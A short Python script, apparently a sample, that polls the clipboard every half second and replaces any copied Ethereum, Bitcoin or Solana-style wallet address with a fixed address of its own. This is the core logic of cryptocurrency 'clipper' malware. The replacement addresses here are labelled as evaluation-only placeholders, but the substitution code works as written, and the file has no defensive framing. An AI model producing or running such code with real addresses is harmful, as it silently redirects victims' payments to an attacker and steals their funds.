#!/usr/bin/env python3
import re, time
import pyperclip

REPL = {
    re.compile(r"^0x[0-9a-fA-F]{40}$"): "0x5aFe000000000000000000000000000000dEaD01",
    re.compile(r"^bc1[0-9a-z]{25,59}$"): "bc1qevaluationonlynotarealaddress000000000",
    re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$"): "So1anaEva1uationOn1yNotAReaLAddress1111111",
}

last = ""
while True:
    c = pyperclip.paste().strip()
    if c != last:
        for rx, mine in REPL.items():
            if rx.match(c) and c != mine:
                pyperclip.copy(mine)
                c = mine
        last = c
    time.sleep(0.5)
